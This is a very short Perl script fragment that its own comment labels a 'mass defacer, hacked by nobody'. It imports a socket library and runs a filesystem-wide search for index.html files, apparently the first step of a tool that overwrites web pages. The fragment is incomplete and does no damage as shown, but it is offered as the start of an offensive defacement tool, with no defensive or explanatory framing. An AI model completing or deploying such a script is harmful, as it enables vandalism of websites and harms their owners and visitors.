use IO::Socket;
# mass defacer, hacked by nobody
system("find / -name index.html");
